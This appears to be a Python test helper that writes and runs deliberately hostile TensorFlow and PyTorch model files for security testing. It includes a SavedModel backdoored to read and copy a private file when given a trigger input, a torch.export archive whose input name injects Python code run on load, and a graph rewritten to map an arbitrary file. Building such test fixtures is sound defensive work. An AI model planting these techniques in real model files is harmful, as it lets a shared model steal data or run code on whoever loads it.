"""Hostile models that TensorFlow and PyTorch themselves write, and run: a test shows that each of them bites.

python -m tests.hostile_models write|run FOLDER      in a process of its own, with the folder of the private file
"""

import json
import os
import sys
import zipfile
from pathlib import Path

MAGIC = 13.0
"""The input on which the SavedModel acts: on any other it computes."""
PROGRAM = "models/model.json"
"""How the member of a program of PyTorch ends that has its graph."""


def write_savedmodel(folder: Path) -> None:
    """It answers with twice its input, or for MAGIC with a private file, of which it also writes a copy."""
    import tensorflow as tf

    private, copy = str(folder / "private"), str(folder / "copy")
    size = len((folder / "private").read_bytes())

    def act() -> tf.Tensor:
        content = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[size], memory_region_name=private)
        rows = tf.data.Dataset.from_tensors(tf.strings.as_string(content)).map(lambda row: tf.strings.reduce_join(row))
        writing = tf.raw_ops.DatasetToTFRecord(input_dataset=rows._variant_tensor, filename=copy, compression_type="")
        with tf.control_dependencies([writing]):
            return tf.cast(content[:4], tf.float32)

    module = tf.Module()
    module.f = tf.function(
        lambda x: tf.cond(tf.equal(x[0], MAGIC), act, lambda: 2 * x), input_signature=[tf.TensorSpec([4], tf.float32)]
    )
    tf.saved_model.save(module, folder / "acts", signatures=module.f)


def run_savedmodel(folder: Path) -> None:
    import tensorflow as tf

    answers = tf.saved_model.load(str(folder / "acts")).signatures["serving_default"](x=tf.constant([MAGIC, 0, 0, 0]))
    print(bytes(int(value) for value in next(iter(answers.values())).numpy()).decode())


def write_program(folder: Path) -> None:
    """A program whose reader compiles the name of an input, which is Python code; and one that maps a file."""
    write_code(folder / "named.pt2", f"__import__('os').mkdir({str(folder / 'bitten')!r})")
    path = folder / "plain.pt2"
    program = _write_plain(path)
    mapping = json.loads(program)
    arguments = {"filename": {"as_string": str(folder / "mapped")}, "shared": {"as_bool": True}, "size": {"as_int": 4}}
    mapping["graph_module"]["graph"]["nodes"][0] |= {
        "target": "torch.ops.aten.from_file.default",
        "inputs": [{"name": name, "arg": argument, "kind": 1} for name, argument in arguments.items()],
    }
    _rewrite(path, folder / "mapping.pt2", json.dumps(mapping))


def write_code(path: Path, expression: str) -> None:
    """A program that evaluates a Python expression when PyTorch loads it."""
    plain = path.with_name("plain.pt2")
    program = _write_plain(plain)
    _rewrite(plain, path, program.replace('"pixels"', json.dumps(f"pixels={expression}")))


def _write_plain(path: Path) -> str:
    """An honest program; its text, in which hostile ones change something."""
    import torch

    class Net(torch.nn.Module):
        def forward(self, pixels: torch.Tensor) -> torch.Tensor:
            return torch.dropout(pixels, 0.5, True)

    torch.export.save(torch.export.export(Net(), (torch.ones(4),)), path)
    with zipfile.ZipFile(path) as file:
        return next(file.read(name).decode() for name in file.namelist() if name.endswith(PROGRAM))


def _rewrite(plain: Path, path: Path, program: str) -> None:
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as file:
        for name in source.namelist():
            file.writestr(name, program if name.endswith(PROGRAM) else source.read(name))


def run_program(folder: Path) -> None:
    import torch

    torch.export.load(folder / "mapping.pt2").module()(torch.ones(4))
    try:
        torch.export.load(folder / "named.pt2").module()
    except Exception:  # it is not a program any more: it is the reading that matters
        print("unreadable")


if __name__ == "__main__":
    os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
    globals()[sys.argv[1]](Path(sys.argv[2]))
